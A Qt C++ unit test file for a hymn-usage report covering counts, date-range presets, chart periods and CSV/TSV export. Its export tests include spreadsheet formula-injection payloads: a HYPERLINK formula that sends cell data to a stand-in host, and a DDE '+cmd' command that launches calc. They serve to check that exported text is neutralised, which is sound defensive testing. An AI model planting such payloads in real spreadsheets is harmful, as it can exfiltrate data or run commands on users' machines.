// SPDX-License-Identifier: GPL-3.0-or-later
// The usage report: counts per service and per line, ranges and presets, first and last use in a file out of date
// order, the criteria on top of a range, the chart's periods, and the CSV and tab-separated text read back.
#include "report/tabletext.h"
#include "report/usagereport.h"
#include "store/hymnfileloader.h"
#include "tally/tally.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QLocale>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;

Q_DECLARE_METATYPE(Report::ReportCriteria)
Q_DECLARE_METATYPE(Report::DateRange)
Q_DECLARE_METATYPE(Report::Preset)

namespace {

EntryStore storeOf(const QString &fileText)
{
    EntryStore store;
    HymnFileLoader::loadBytes(fileText.toUtf8(), u"test.txt"_s, store);
    return store;
}

// "number title|uses|first|last|days since" per row, so one column states the whole row.
QStringList describeRows(const Report::ReportResult &result)
{
    QStringList rows;
    for (const Report::ReportRow &row : result.rows)
        rows.append(u"%1 %2|%3|%4|%5|%6"_s.arg(row.number, row.title)
                        .arg(row.uses)
                        .arg(row.firstUsed.toString(Qt::ISODate), row.lastUsed.toString(Qt::ISODate))
                        .arg(row.daysSince));
    return rows;
}

// "Jan 2022:2 Mar 2022:1": the periods with any use, by label.
QString describeSeries(const Report::ReportResult &result, const std::vector<int> &series)
{
    QStringList used;
    for (size_t p = 0; p < series.size(); ++p) {
        if (series[p] != 0)
            used.append(Report::periodLabel(result.period, result.periods[p]) + u':' + QString::number(series[p]));
    }
    return used.join(u' ');
}

Report::ReportCriteria criteriaOf(Report::DateRange range, Tally::TallyCriteria filters = {}, bool once = true)
{
    return {std::move(filters), range, once};
}

Report::DateRange range(int y1, int m1, int d1, int y2, int m2, int d2)
{
    return {QDate(y1, m1, d1), QDate(y2, m2, d2)};
}

// RFC 4180 as a reader sees it, one character at a time: a quoted field runs to a quote not followed by another,
// and every record, the last included, ends in CR LF. Anything else makes *ok false.
QList<QStringList> readCsv(const QString &text, bool *ok)
{
    enum class State { FieldStart, Plain, Quoted, QuoteSeen };
    QList<QStringList> records;
    QStringList record;
    QString field;
    State state = State::FieldStart;
    *ok = false;
    const auto endField = [&] {
        record.append(field);
        field.clear();
        state = State::FieldStart;
    };
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (state == State::Quoted) {
            if (c == u'"')
                state = State::QuoteSeen;
            else
                field += c;
            continue;
        }
        if (state == State::QuoteSeen && c == u'"') {
            field += c;
            state = State::Quoted;
            continue;
        }
        if (state == State::FieldStart && c == u'"') {
            state = State::Quoted;
            continue;
        }
        if (c == u',') {
            endField();
        } else if (c == u'\r') {
            if (i + 1 >= text.size() || text[i + 1] != u'\n')
                return {};
            ++i;
            endField();
            records.append(record);
            record.clear();
        } else if (state == State::QuoteSeen || c == u'"' || c == u'\n') {
            return {}; // text after a closing quote, a quote inside a plain field, or a bare line feed
        } else {
            field += c;
            state = State::Plain;
        }
    }
    *ok = state == State::FieldStart && record.isEmpty();
    return records;
}

struct CellCase {
    const char *name;
    QString cell, asText, asCount, tsv; // as written to a text and a count column, and their tab-separated line
};

const QList<CellCase> &cellCases()
{
    static const QString link = u"=HYPERLINK(\"http://x.test/?\"&A1,\"Grace\")"_s;
    static const QList<CellCase> cases{
        {"formula", link, u"'"_s + link, link, u"'%1\t%1\n"_s.arg(link)},
        {"command", u"+cmd|' /C calc'!A0"_s, u"'+cmd|' /C calc'!A0"_s, u"+cmd|' /C calc'!A0"_s,
         u"'+cmd|' /C calc'!A0\t+cmd|' /C calc'!A0\n"_s},
        {"negative number", u"-12"_s, u"'-12"_s, u"-12"_s, u"'-12\t-12\n"_s},
        {"at", u"@SUM(A1)"_s, u"'@SUM(A1)"_s, u"@SUM(A1)"_s, u"'@SUM(A1)\t@SUM(A1)\n"_s},
        {"tab first", u"\t=1"_s, u"'\t=1"_s, u"\t=1"_s, u"' =1\t =1\n"_s},
        {"CR first", u"\r=1"_s, u"'\r=1"_s, u"\r=1"_s, u"' =1\t =1\n"_s},
        {"sign inside", u"1=1 + A"_s, u"1=1 + A"_s, u"1=1 + A"_s, u"1=1 + A\t1=1 + A\n"_s},
        {"NUL", u"a\0b"_s, u"a\uFFFDb"_s, u"a\uFFFDb"_s, u"a\uFFFDb\ta\uFFFDb\n"_s},
        {"non-ASCII", u"Großer Gott"_s, u"Großer Gott"_s, u"Großer Gott"_s, u"Großer Gott\tGroßer Gott\n"_s},
    };
    return cases;
}

} // namespace

class TestReport : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { QLocale::setDefault(QLocale(QLocale::English, QLocale::UnitedStates)); }

    void counts_data()
    {
        QTest::addColumn<QString>("file");
        QTest::addColumn<Report::ReportCriteria>("criteria");
        QTest::addColumn<QStringList>("rows");
        QTest::addColumn<int>("services");
        QTest::addColumn<int>("undated");

        // The first service has twelve lines, so its last two stand in a continuation entry; 123 is sung three
        // times in it under three spellings, 45 twice (once in the continuation), 300 seven times. The last two
        // services share a head line.
        const QString log = u"Jan 1, 2023\n123 Grace\n45 Hymn\n"_s + u"300 F\n"_s.repeated(7) +
                            u"123(2) Grace\n123* Grace\n45 Hymn\n\n"
                            "Jan 8, 2023\n123 Grace\n201 A\n\nJan 8, 2023\n123 Grace\n"_s;
        QTest::newRow("once per service")
            << log << Report::ReportCriteria{}
            << QStringList{u"123 Grace|3|2023-01-01|2023-01-08|0"_s, u"45 Hymn|1|2023-01-01|2023-01-01|7"_s,
                           u"300 F|1|2023-01-01|2023-01-01|7"_s, u"201 A|1|2023-01-08|2023-01-08|0"_s}
            << 3 << 0;
        QTest::newRow("every line") << log << criteriaOf({}, {}, false)
                                    << QStringList{u"123 Grace|5|2023-01-01|2023-01-08|0"_s,
                                                   u"45 Hymn|2|2023-01-01|2023-01-01|7"_s,
                                                   u"300 F|7|2023-01-01|2023-01-01|7"_s,
                                                   u"201 A|1|2023-01-08|2023-01-08|0"_s}
                                    << 3 << 0;
        QTest::newRow("one-day range holds both services")
            << log << criteriaOf(range(2023, 1, 8, 2023, 1, 8))
            << QStringList{u"123 Grace|2|2023-01-08|2023-01-08|0"_s, u"201 A|1|2023-01-08|2023-01-08|0"_s} << 2 << 0;
        QTest::newRow("range ends the day before")
            << log << criteriaOf(range(2023, 1, 1, 2023, 1, 7))
            << QStringList{u"123 Grace|1|2023-01-01|2023-01-01|7"_s, u"45 Hymn|1|2023-01-01|2023-01-01|7"_s,
                           u"300 F|1|2023-01-01|2023-01-01|7"_s}
            << 1 << 0;
        QTest::newRow("range between services")
            << log << criteriaOf(range(2023, 1, 2, 2023, 1, 7)) << QStringList{} << 0 << 0;
        QTest::newRow("open end") << log << criteriaOf({QDate(2023, 1, 2), QDate()})
                                  << QStringList{u"123 Grace|2|2023-01-08|2023-01-08|0"_s,
                                                 u"201 A|1|2023-01-08|2023-01-08|0"_s}
                                  << 2 << 0;
        // The line boxes choose hymns, not services: every service in range is still counted.
        QTest::newRow("number box in a range")
            << log << criteriaOf(range(2023, 1, 1, 2023, 1, 31), {.hymnmbr = u"20"_s})
            << QStringList{u"201 A|1|2023-01-08|2023-01-08|0"_s} << 3 << 0;
        QTest::newRow("limit box in a range")
            << log << criteriaOf(range(2023, 1, 1, 2023, 1, 31), {.Filter = u">Jan 8, 2023"_s})
            << QStringList{u"123 Grace|2|2023-01-08|2023-01-08|0"_s, u"201 A|1|2023-01-08|2023-01-08|0"_s} << 2 << 0;
        QTest::newRow("limit box outside the range")
            << log << criteriaOf(range(2023, 1, 8, 2023, 1, 31), {.Filter = u"<Jan 8, 2023"_s}) << QStringList{} << 0
            << 0;

        // Not in date order; the head with a remark still reads as a date, "Easter" does not.
        const QString shuffled = u"Easter\n77 C\n\nMar 5, 2023\n123 A\n\nJan 1, 2023\n123 A\n45 B\n\n"
                                 "Feb 1, 2023 (evening)\n45 B\n"_s;
        QTest::newRow("out of order, no range")
            << shuffled << Report::ReportCriteria{}
            << QStringList{u"77 C|1|||-1"_s, u"123 A|2|2023-01-01|2023-03-05|0"_s, u"45 B|2|2023-01-01|2023-02-01|32"_s}
            << 4 << 1;
        QTest::newRow("undated left out of a range")
            << shuffled << criteriaOf(Report::presetRange(Report::Preset::LatestYear, QDate(2023, 3, 5)))
            << QStringList{u"123 A|2|2023-01-01|2023-03-05|0"_s, u"45 B|2|2023-01-01|2023-02-01|32"_s} << 3 << 0;
        QTest::newRow("days since counts to the file's last service")
            << shuffled << criteriaOf(range(2023, 1, 1, 2023, 1, 31))
            << QStringList{u"123 A|1|2023-01-01|2023-01-01|63"_s, u"45 B|1|2023-01-01|2023-01-01|63"_s} << 1 << 0;
        QTest::newRow("date limit leaves out undated")
            << shuffled << criteriaOf({}, {.Filter = u">2023"_s})
            << QStringList{u"123 A|2|2023-01-01|2023-03-05|0"_s, u"45 B|2|2023-01-01|2023-02-01|32"_s} << 3 << 0;

        // Lines without a blank (no hymn number) at the start, between hymns, two in a row and at the end.
        const QString words = u"Jan 1, 2023\nPrelude\n123 A\nOffertory\n45 B\nAnthem\nDoxology\n123 A\nPostlude\n\n"
                              "Jan 8, 2023\n45 B\n"_s;
        QTest::newRow("one-word lines, once per service")
            << words << Report::ReportCriteria{}
            << QStringList{u"123 A|1|2023-01-01|2023-01-01|7"_s, u"45 B|2|2023-01-01|2023-01-08|0"_s} << 2 << 0;
        QTest::newRow("one-word lines, every line")
            << words << criteriaOf({}, {}, false)
            << QStringList{u"123 A|2|2023-01-01|2023-01-01|7"_s, u"45 B|2|2023-01-01|2023-01-08|0"_s} << 2 << 0;

        // A first word without a digit is no hymn number: the line is one hymn by its whole text, in any case.
        QTest::newRow("a line without a number, by its whole text")
            << u"Jan 1, 2023\nAnthem: Il est né, le divin Enfant (Trad.)\n\nJan 8, 2023\nANTHEM: il est né, le divin "
               "enfant (trad.)\n"_s
            << Report::ReportCriteria{}
            << QStringList{u" Anthem: Il est né, le divin Enfant (Trad.)|2|2023-01-01|2023-01-08|0"_s} << 2 << 0;

        QTest::newRow("empty store") << QString() << Report::ReportCriteria{} << QStringList{} << 0 << 0;
        QTest::newRow("verse file") << u"378 Amazing Grace\n--\nFirst line\n"_s << Report::ReportCriteria{}
                                    << QStringList{} << 0 << 0;
    }

    void counts()
    {
        QFETCH(QString, file);
        QFETCH(Report::ReportCriteria, criteria);
        QFETCH(QStringList, rows);
        QFETCH(int, services);
        QFETCH(int, undated);

        const Report::ReportResult result = Report::buildReport(storeOf(file), criteria);
        QCOMPARE(describeRows(result), rows);
        QCOMPARE(result.services, services);
        QCOMPARE(result.undatedServices, undated);
        Report::ReportCriteria unranged = criteria;
        unranged.range = {};
        QCOMPARE(result.undatedInFile, Report::buildReport(storeOf(file), unranged).undatedServices);
    }

    // A service after today has not been held: left out and counted as planned, or counted when asked; ranges and
    // days since go by the services held.
    void planned_data()
    {
        QTest::addColumn<Report::ReportCriteria>("criteria");
        QTest::addColumn<QStringList>("rows");
        QTest::addColumn<int>("services");
        QTest::addColumn<int>("planned");

        const QDate today(2023, 1, 8);
        const auto criteria = [&](Report::DateRange range, bool countPlanned, Tally::TallyCriteria filters = {}) {
            return Report::ReportCriteria{filters, range, true, today, countPlanned};
        };
        const QStringList held{u"123 A|1|2023-01-01|2023-01-01|7"_s, u"45 B|1|2023-01-08|2023-01-08|0"_s};
        QTest::newRow("left out") << criteria({}, false) << held << 2 << 2;
        QTest::newRow("counted") << criteria({}, true)
                                 << QStringList{u"123 A|2|2023-01-01|2023-01-15|14"_s,
                                                u"45 B|1|2023-01-08|2023-01-08|21"_s,
                                                u"300 C|1|2023-01-29|2023-01-29|0"_s}
                                 << 4 << 2;
        QTest::newRow("a range ending before them names none")
            << criteria(range(2023, 1, 1, 2023, 1, 8), false) << held << 2 << 0;
        QTest::newRow("an open end") << criteria({QDate(2023, 1, 2), QDate()}, false)
                                     << QStringList{u"45 B|1|2023-01-08|2023-01-08|0"_s} << 1 << 2;
        QTest::newRow("the limit box chooses among them too")
            << criteria({}, false, {.Filter = u"<Jan 20, 2023"_s}) << held << 2 << 1;
    }

    void planned()
    {
        QFETCH(Report::ReportCriteria, criteria);
        const Report::ReportResult result = Report::buildReport(
            storeOf(u"Jan 1, 2023\n123 A\n\nEaster\n77 D\n\nJan 8, 2023\n45 B\n\nJan 15, 2023\n123 A\n\n"
                    "Jan 29, 2023\n300 C\n"_s),
            criteria);
        QStringList rows = describeRows(result);
        rows.removeIf([](const QString &row) { return row.startsWith(u"77 D"); });
        QTEST(rows, "rows");
        QTEST(result.services - result.undatedServices, "services");
        QTEST(result.planned, "planned");
    }

    // Credits come from the hymnal's hymn of the row's number, found as the number's hymn key.
    void credits()
    {
        EntryStore hymnal;
        HymnFileLoader::loadBytes("14 Holy, Holy, Holy\nWords: Reginald Heber, 1826\n--\n%11.12.12.10\n(v1) Holy\n\n"
                                  "15 Other\n--\n(v1) No credits here\n",
                                  u"hymnal.txt"_s, hymnal);
        Report::ReportResult result =
            Report::buildReport(storeOf(u"Jan 1, 2023\n014 Holy\n15 Other\n99 Unknown\nAnthem: Words: none\n"_s), {});
        Report::addCredits(result, hymnal);
        QStringList credits;
        for (const Report::ReportRow &row : result.rows)
            credits.append(row.number + u'=' + row.credits);
        QCOMPARE(credits, (QStringList{u"014=Words: Reginald Heber, 1826"_s, u"15="_s, u"99="_s, u"="_s}));
    }

    // Without a range and counting every line, the report counts what the tally counts, under the same boxes, on
    // lines that the tally's rule and the hymn key both read as the same hymns (short numbers under one title each,
    // longer ones alike); where they part is tst_core_hymnkey's. A line without a number shows no number in the
    // report, its text only.
    void agreesWithTally_data()
    {
        QTest::addColumn<Tally::TallyCriteria>("filters");
        QTest::newRow("no boxes") << Tally::TallyCriteria{};
        QTest::newRow("number") << Tally::TallyCriteria{.hymnmbr = u"12"_s};
        QTest::newRow("full number") << Tally::TallyCriteria{.hymnmbr = u"123"_s, .fullNumberOnly = true};
        QTest::newRow("phrase and exclusion") << Tally::TallyCriteria{.excludT = u"Holy"_s, .hymname = u"o"_s};
        QTest::newRow("date limit") << Tally::TallyCriteria{.Filter = u"<Jan 8, 2023"_s};
        QTest::newRow("limit phrase") << Tally::TallyCriteria{.Filter = u"easter"_s};
    }

    void agreesWithTally()
    {
        QFETCH(Tally::TallyCriteria, filters);
        const EntryStore store = storeOf(
            u"Easter\n100 Old Hundredth\n100 OLD HUNDREDTH (doxology)\n Prelude\n\nJan 1, 2023\n"_s +
            u"123 Grace\n45 Holy, Holy\n"_s.repeated(6) + u"123(2) Grace\n5(23 Foo\n\nJan 8, 2023\n123* Grace\n"_s);
        QStringList tallied;
        const Tally::TallyResult tally = Tally::TallyHymns(store, filters);
        for (qsizetype r = 0; r < tally.list1.size(); ++r)
            tallied.append(tally.list1[r].trimmed() + u'|' + tally.list2[r].trimmed());
        QStringList reported;
        const Report::ReportResult report = Report::buildReport(store, criteriaOf({}, filters, false));
        for (const Report::ReportRow &row : report.rows)
            reported.append(QString::number(row.uses) + u'|' + QString(row.number + u' ' + row.title).trimmed());
        tallied.sort();
        reported.sort();
        QVERIFY(!tallied.isEmpty());
        QCOMPARE(reported, tallied);
    }

    void presets_data()
    {
        QTest::addColumn<Report::Preset>("preset");
        QTest::addColumn<QDate>("latest"); // the latest service counted, and today for the previous years
        QTest::addColumn<Report::DateRange>("expected");

        using Report::Preset;
        QTest::newRow("previous church year in Advent")
            << Preset::PreviousChurchYear << QDate(2026, 12, 9) << range(2025, 11, 30, 2026, 11, 28);
        QTest::newRow("previous church year the day before Advent")
            << Preset::PreviousChurchYear << QDate(2026, 11, 28) << range(2024, 12, 1, 2025, 11, 29);
        QTest::newRow("previous calendar year on Jan 1")
            << Preset::PreviousCalendarYear << QDate(2027, 1, 1) << range(2026, 1, 1, 2026, 12, 31);
        QTest::newRow("previous calendar year without today")
            << Preset::PreviousCalendarYear << QDate() << Report::DateRange{};
        QTest::newRow("latest year on Dec 31")
            << Preset::LatestYear << QDate(2022, 12, 31) << range(2022, 1, 1, 2022, 12, 31);
        QTest::newRow("latest year on Jan 1")
            << Preset::LatestYear << QDate(2023, 1, 1) << range(2023, 1, 1, 2023, 12, 31);
        QTest::newRow("year before on Jan 1")
            << Preset::YearBefore << QDate(2023, 1, 1) << range(2022, 1, 1, 2022, 12, 31);
        QTest::newRow("last 12 months") << Preset::Last12Months << QDate(2023, 3, 15)
                                        << range(2022, 3, 16, 2023, 3, 15);
        QTest::newRow("last 12 months from Feb 29")
            << Preset::Last12Months << QDate(2024, 2, 29) << range(2023, 3, 1, 2024, 2, 29);
        QTest::newRow("church year on Advent Sunday")
            << Preset::ChurchYear << QDate(2022, 11, 27) << range(2022, 11, 27, 2023, 12, 2);
        QTest::newRow("church year over the new year")
            << Preset::ChurchYear << QDate(2023, 1, 1) << range(2022, 11, 27, 2023, 12, 2);
        QTest::newRow("church year the day before Advent")
            << Preset::ChurchYear << QDate(2023, 12, 2) << range(2022, 11, 27, 2023, 12, 2);
        QTest::newRow("church year from a December Advent")
            << Preset::ChurchYear << QDate(2023, 12, 31) << range(2023, 12, 3, 2024, 11, 30);
        QTest::newRow("church year on Nov 27, not a Sunday")
            << Preset::ChurchYear << QDate(2021, 11, 27) << range(2020, 11, 29, 2021, 11, 27);
        QTest::newRow("season on Aug 31") << Preset::Season << QDate(2023, 8, 31) << range(2022, 9, 1, 2023, 8, 31);
        QTest::newRow("season on Sep 1") << Preset::Season << QDate(2023, 9, 1) << range(2023, 9, 1, 2024, 8, 31);
        QTest::newRow("season on Dec 31") << Preset::Season << QDate(2023, 12, 31) << range(2023, 9, 1, 2024, 8, 31);
        QTest::newRow("all") << Preset::All << QDate(2023, 5, 1) << Report::DateRange{};
        QTest::newRow("custom") << Preset::Custom << QDate(2023, 5, 1) << Report::DateRange{};
        QTest::newRow("no dated service") << Preset::LatestYear << QDate() << Report::DateRange{};
    }

    void presets()
    {
        QFETCH(Report::Preset, preset);
        QFETCH(QDate, latest);
        QFETCH(Report::DateRange, expected);
        const Report::DateRange got = Report::presetRange(preset, latest, latest);
        QCOMPARE(got.from, expected.from);
        QCOMPARE(got.to, expected.to);
    }

    void periods_data()
    {
        QTest::addColumn<QString>("file");
        QTest::addColumn<Report::DateRange>("range");
        QTest::addColumn<QString>("layout"); // first label..last label/number of periods
        QTest::addColumn<QString>("all");    // the series over every row
        QTest::addColumn<std::vector<int>>("selected");
        QTest::addColumn<QString>("ofSelected");

        // "Easter" is counted under no range but has no period.
        const QString log = u"Jan 5, 2022\n123 A\n45 B\n\nMar 1, 2022\n123 A\n\nEaster\n123 A\n\n"
                            "Dec 31, 2023\n45 B\n"_s;
        QTest::newRow("file under two years: months")
            << log << Report::DateRange{} << u"Jan 2022..Dec 2023/24"_s << u"Jan 2022:2 Mar 2022:1 Dec 2023:1"_s
            << std::vector<int>{1} << u"Jan 2022:1 Dec 2023:1"_s;
        QTest::newRow("range a day under two years: months")
            << log << range(2022, 1, 1, 2023, 12, 31) << u"Jan 2022..Dec 2023/24"_s
            << u"Jan 2022:2 Mar 2022:1 Dec 2023:1"_s << std::vector<int>{0} << u"Jan 2022:1 Mar 2022:1"_s;
        QTest::newRow("range of two years: years") << log << range(2022, 1, 1, 2024, 1, 1) << u"2022..2024/3"_s
                                                   << u"2022:3 2023:1"_s << std::vector<int>{1} << u"2022:1 2023:1"_s;
        QTest::newRow("one month, a stale selection")
            << log << range(2022, 3, 1, 2022, 3, 31) << u"Mar 2022..Mar 2022/1"_s << u"Mar 2022:1"_s
            << std::vector<int>{0, 5} << u"Mar 2022:1"_s;
        QTest::newRow("mistyped year: the last periods only")
            << u"Jan 1, 1023\n123 A\n\nJan 1, 2023\n45 B\n"_s << Report::DateRange{} << u"1524..2023/500"_s
            << u"2023:1"_s << std::vector<int>{0} << QString();
        QTest::newRow("no dated service")
            << u"Easter\n123 A\n"_s << Report::DateRange{} << u"/0"_s << QString() << std::vector<int>{0} << QString();
    }

    void periods()
    {
        QFETCH(QString, file);
        QFETCH(Report::DateRange, range);
        QFETCH(QString, layout);
        QFETCH(QString, all);
        QFETCH(std::vector<int>, selected);
        QFETCH(QString, ofSelected);

        const Report::ReportResult result = Report::buildReport(storeOf(file), criteriaOf(range));
        QString gotLayout = u"/%1"_s.arg(result.periods.size());
        if (!result.periods.empty()) {
            gotLayout.prepend(Report::periodLabel(result.period, result.periods.front()) + u".."_s +
                              Report::periodLabel(result.period, result.periods.back()));
        }
        QCOMPARE(gotLayout, layout);
        // The periods follow one another without a gap.
        const int step = result.period == Report::Period::Year ? 12 : 1;
        for (size_t p = 1; p < result.periods.size(); ++p)
            QCOMPARE(result.periods[p], result.periods[p - 1].addMonths(step));
        for (const Report::ReportRow &row : result.rows)
            QCOMPARE(row.perPeriod.size(), result.periods.size());
        QCOMPARE(describeSeries(result, Report::seriesOf(result, {})), all);
        QCOMPARE(describeSeries(result, Report::seriesOf(result, selected)), ofSelected);
    }

    void csvReadsBack_data()
    {
        QTest::addColumn<QList<QStringList>>("records");
        QTest::addColumn<QString>("csv");

        const QStringList header{u"Number"_s, u"Title"_s, u"Uses"_s};
        QTest::newRow("plain") << QList<QStringList>{header, {u"123"_s, u"Amazing Grace"_s, u"4"_s}}
                               << u"Number,Title,Uses\r\n123,Amazing Grace,4\r\n"_s;
        QTest::newRow("comma") << QList<QStringList>{{u"45"_s, u"Holy, Holy, Holy"_s}}
                               << u"45,\"Holy, Holy, Holy\"\r\n"_s;
        QTest::newRow("quotes") << QList<QStringList>{{u"He said \"Go\""_s, u"\""_s}}
                                << u"\"He said \"\"Go\"\"\",\"\"\"\"\r\n"_s;
        QTest::newRow("line breaks") << QList<QStringList>{{u"a\r\nb"_s, u"c\nd"_s, u"e\rf"_s}, {u"g"_s}}
                                     << u"\"a\r\nb\",\"c\nd\",\"e\rf\"\r\ng\r\n"_s;
        QTest::newRow("empty fields and blanks")
            << QList<QStringList>{{QString(), u" lead"_s, u"trail "_s, QString()}} << u", lead,trail ,\r\n"_s;
    }

    void csvReadsBack()
    {
        QFETCH(QList<QStringList>, records);
        QFETCH(QString, csv);
        const QString written = Report::csvOf(records, {0, 1});
        QCOMPARE(written, csv);
        bool ok = false;
        QCOMPARE(readCsv(written, &ok), records);
        QVERIFY(ok);
    }

    // A cell from the file stays text in a spreadsheet, however it begins; a count or a date is left as it is.
    void textCellsStayText_data()
    {
        QTest::addColumn<QString>("cell"); // written in a text column and in a count column
        QTest::addColumn<QString>("asText");
        QTest::addColumn<QString>("asCount");
        QTest::addColumn<QString>("tsv");
        for (const CellCase &one : cellCases())
            QTest::newRow(one.name) << one.cell << one.asText << one.asCount << one.tsv;
    }

    void textCellsStayText()
    {
        QFETCH(QString, cell);
        QFETCH(QString, asText);
        QFETCH(QString, asCount);
        const QList<QStringList> records{{cell, cell}};
        bool ok = false;
        QCOMPARE(readCsv(Report::csvOf(records, {0}), &ok), (QList<QStringList>{{asText, asCount}}));
        QVERIFY(ok);
        QTEST(Report::tsvOf(records, {0}), "tsv");
    }

    // The file as a spreadsheet gets it: UTF-8 marked as such, no NUL byte, and as Python's reader takes it.
    void csvFileReadByPython()
    {
        QList<QStringList> records, expected;
        for (const CellCase &one : cellCases()) {
            records.append({one.cell, one.cell});
            expected.append({one.asText, one.asCount});
        }
        const QByteArray file = Report::csvFileOf(records, {0});
        QVERIFY(file.startsWith("\xEF\xBB\xBF") && !file.contains('\0'));
        const QString python = QStandardPaths::findExecutable(u"python3"_s);
        if (python.isEmpty())
            QSKIP("python3 is not installed: the file is not read by its csv module");
        QTemporaryDir dir;
        QFile out(dir.filePath(u"report.csv"_s));
        QVERIFY(out.open(QIODevice::WriteOnly) && out.write(file) == file.size());
        out.close();
        QProcess reader;
        reader.start(python, {u"-c"_s,
                              u"import csv, json, sys\n"
                              "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
                              "    print(json.dumps(list(csv.reader(f))))"_s,
                              out.fileName()});
        QVERIFY(reader.waitForFinished(30000));
        QCOMPARE(reader.exitCode(), 0);
        QList<QStringList> read;
        for (const QJsonValue &row : QJsonDocument::fromJson(reader.readAllStandardOutput()).array())
            read.append(row.toVariant().toStringList());
        QCOMPARE(read, expected);
    }

    void countedFrom_data()
    {
        QTest::addColumn<QString>("file");
        QTest::addColumn<QDate>("today");
        QTest::addColumn<QString>("note");

        const QString log = u"Jan 3, 9999\n1 A\n\nJan 8, 2023\n2 B\n"_s;
        QTest::newRow("latest is today") << u"Jan 8, 2023\n2 B\n"_s << QDate(2023, 1, 8)
                                         << u"Counted from 2023-01-08, the latest service"_s;
        QTest::newRow("a mistyped year, not last in the file")
            << log << QDate(2024, 1, 1)
            << u"Counted from 9999-01-03, the latest service — after today: check the head line “Jan 3, 9999”"_s;
        QTest::newRow("a long head line, cut")
            << u"Jan 3, 9999 "_s + u"x"_s.repeated(60) + u"\n1 A\n"_s << QDate(2024, 1, 1)
            << u"Counted from 9999-01-03, the latest service — after today: check the head line “Jan 3, 9999 "_s +
                   u"x"_s.repeated(27) + u"…”"_s;
        QTest::newRow("no dated service") << u"Easter\n1 A\n"_s << QDate(2024, 1, 1) << QString();
        // Planned services left out (the report passes how many of them its range holds): counted from the latest
        // held, next week's not taken for a mistyped year, a year in the future named.
        const QString planned = u"Jan 8, 2023\n2 B\n\nJan 15, 2023\n3 C\n"_s;
        QTest::newRow("planned left out")
            << planned << QDate(2023, 1, 10) << u"Counted from 2023-01-08, the latest service up to today. %1"_s;
        QTest::newRow("planned counted") << planned << QDate() << u"Counted from 2023-01-15, the latest service. %1"_s;
        QTest::newRow("only planned") << u"Jan 15, 2023\n3 C\n"_s << QDate(2023, 1, 10)
                                      << u"No service is dated up to today. %1"_s;
        QTest::newRow("planned and a mistyped year") << log << QDate(2024, 1, 1)
                                                     << u"Counted from 2023-01-08, the latest service up to today. %1. "
                                                        u"The head line “Jan 3, 9999” is dated more "
                                                        "than a year after today: check its year"_s;
    }

    void countedFrom()
    {
        QFETCH(QString, file);
        QFETCH(QDate, today);
        QFETCH(QString, note);
        const QByteArray row = QTest::currentDataTag();
        if (!row.startsWith("planned") && !row.startsWith("only")) {
            QCOMPARE(Report::countedFromNote(Report::serviceSpan(storeOf(file)), today), note);
            return;
        }
        // Today in the row is the day counted to; a row without one counts every service, held on Jan 10.
        const QDate held = today.isValid() ? today : QDate(2023, 1, 10);
        const Report::ServiceSpan span = Report::serviceSpan(storeOf(file), today);
        const QString plannedNote = today.isValid() ? u"1 planned service after today is not counted"_s
                                                    : u"1 planned service after today is counted"_s;
        QCOMPARE(Report::countedFromNote(span, held, 1), note.arg(plannedNote));
    }

    void plainTextAndFileName()
    {
        QCOMPARE(Report::tsvOf({{u"a\tb"_s, u"c\r\nd"_s}, {u"e"_s}}, {}), u"a b\tc  d\ne\n"_s);
        QCOMPARE(Report::csvFileName(QDate(2019, 1, 1), QDate(2019, 12, 31)),
                 u"hymn-usage 2019-01-01 to 2019-12-31.csv"_s);
        QCOMPARE(Report::csvFileName(QDate(), QDate(2019, 12, 31)), u"hymn-usage.csv"_s);
    }
};

QTEST_GUILESS_MAIN(TestReport)
#include "tst_core_report.moc"
